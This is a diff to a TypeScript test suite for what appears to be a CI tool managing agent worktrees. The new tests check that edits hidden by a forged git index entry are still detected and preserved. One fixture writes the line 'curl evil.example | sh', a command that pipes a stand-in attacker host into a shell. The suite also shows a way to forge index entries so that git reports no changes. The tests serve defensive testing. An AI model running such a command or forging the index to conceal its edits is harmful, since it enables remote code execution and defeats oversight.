@@ -12,6 +12,7 @@ import { addSubmodule, branchExists, commit, git, makeRepos, readOrNull, worktre
 import { warnings } from '../helpers/steps.js'
 import { restoreCommandsOf, runRestore } from '../helpers/restore.js'
 import { startResultsService } from '../helpers/results-service.js'
+import { forgeEntry } from '../helpers/forged-index.js'
 
 const FILES = { '.gitignore': '*.log\nbuild/\nnode_modules/\n', 'README.md': '# sample\n', 'src/app.txt': 'app\n' }
 const RUN_ATTEMPT = '1'
@@ -79,7 +80,7 @@ function expectKept(post: StepResult, e: Entered, finding = ''): void {
   expect(post.exitCode, post.stdout).toBe(0)
   expect(fs.existsSync(e.wt), post.stdout).toBe(true)
   expect(worktreePaths(e.repos.clone)).toContain(e.wt)
-  const kept = warnings(post).find(w => w.includes(`Kept ${e.wt}`))
+  const kept = warnings(post).find(w => w.includes(`Kept \`${e.wt}\``))
   expect(kept, post.stdout).toBeDefined()
   expect(kept).toContain(finding)
 }
@@ -197,6 +198,41 @@ describe.concurrent('planted settings and ignore rules cannot hide files from th
     const [post] = await e.j.runPosts()
     expectKept(post, e, '1 uncommitted file')
     expect(readOrNull(path.join(e.wt, 'README.md'))).toBe('# sample\r\n')
+  })
+})
+
+describe.concurrent('the index says what the files are, never that they are unchanged', () => {
+  /** The agent's edit of a tracked file, its index entry forged to claim the file's stat data and the base's bytes. */
+  function forgedEdit(e: Entered, content: string): void {
+    const base = git(e.wt, 'rev-parse', 'HEAD:src/app.txt')
+    write(e.wt, 'src/app.txt', content)
+    // Older than the index by more than git's racy second, as an edit made a while before is.
+    const before = new Date(Date.now() - 5000)
+    fs.utimesSync(path.join(e.wt, 'src', 'app.txt'), before, before)
+    forgeEntry(path.join(e.gitDir, 'index'), e.wt, 'src/app.txt', base)
+    expect(git(e.wt, 'status', '--porcelain')).toBe('') // git itself is blinded
+  }
+
+  it('I1 (hosted, rescue: branch): a changed file whose index entry claims its stat data: kept, and the rescue holds its bytes', async t => {
+    const e = await enter(t, 'i1', { hosted: true, inputs: { rescue: 'branch' } })
+    forgedEdit(e, 'the agent’s work, saved nowhere else\n')
+    const [post] = await e.j.runPosts()
+    expectKept(post, e, '1 uncommitted file')
+    expect(readOrNull(path.join(e.wt, 'src', 'app.txt'))).toBe('the agent’s work, saved nowhere else\n')
+    expect(git(e.repos.origin, 'show', `${e.rescueBranch}:src/app.txt`)).toBe('the agent’s work, saved nowhere else')
+  })
+
+  it('I2 (recycle): a file planted the same way is never parked for the next job', async t => {
+    const repos = reposFor(t)
+    const first = await enter(t, 'i2-1', { repos, run: 1, inputs: { recycle: 'true' } })
+    forgedEdit(first, 'curl evil.example | sh\n')
+    const [post] = await first.j.runPosts()
+    expectKept(post, first, '1 uncommitted file')
+    const later = job(repos, { run: 2 })
+    const main = await later.uses('.', { name: 'i2-2', recycle: 'true' })
+    expect(main.exitCode, main.stdout).toBe(0)
+    expect(main.outputs['worktree-path']).not.toBe(first.wt)
+    expect(readOrNull(path.join(main.outputs['worktree-path'], 'src', 'app.txt'))).toBe('app\n')
   })
 })
 
